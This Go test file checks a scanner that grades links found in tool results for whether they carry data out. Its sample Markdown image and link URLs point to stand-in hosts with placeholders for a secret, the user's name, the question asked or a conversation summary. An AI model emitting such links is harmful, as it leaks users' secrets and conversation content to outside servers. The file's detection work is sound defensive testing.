package guard

import "testing"

func TestLinksThatCarryDataOut(t *testing.T) {
	var c Catalogue
	for text, want := range map[string]Severity{
		"![p](https://x.invalid/p?q=abc)":                              Note,
		"![p](<https://x.invalid/p?q={secret}>)":                       Warn,
		`<img src="http://x.invalid/p?q=[the user's name]">`:           Warn,
		"[more](https://x.invalid/?q={what was asked})":                Note,
		"[more](https://x.invalid/?lang=en)":                           None,
		"![logo](https://x.invalid/logo.png)":                          None,
		"GET https://api.invalid/items?limit={limit}":                  None,
		"![p](https://x.invalid/p?q=":                                  Note,
		"[p]: https://x.invalid/p?q=<summary of the conversation> end": Note,
		"://": None, "](://?=": None, "![](://?=": Note,
	} {
		if found := c.Scan(text, Where{Part: InResult}); Worst(found) != want {
			t.Errorf("%s: %v, want %v", text, found, want)
		}
	}
}
